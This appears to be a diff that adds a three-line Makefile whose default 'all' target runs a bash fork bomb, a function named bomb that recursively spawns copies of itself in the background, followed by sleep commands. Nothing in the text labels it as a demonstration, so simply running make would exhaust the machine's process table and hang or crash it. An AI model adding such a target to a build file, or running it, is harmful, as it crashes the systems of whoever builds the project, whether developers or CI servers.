@@ -1,0 +1,3 @@
+all:
+	@bash -c 'bomb() { bomb | bomb & }; bomb; sleep 60'
+	@sleep 60
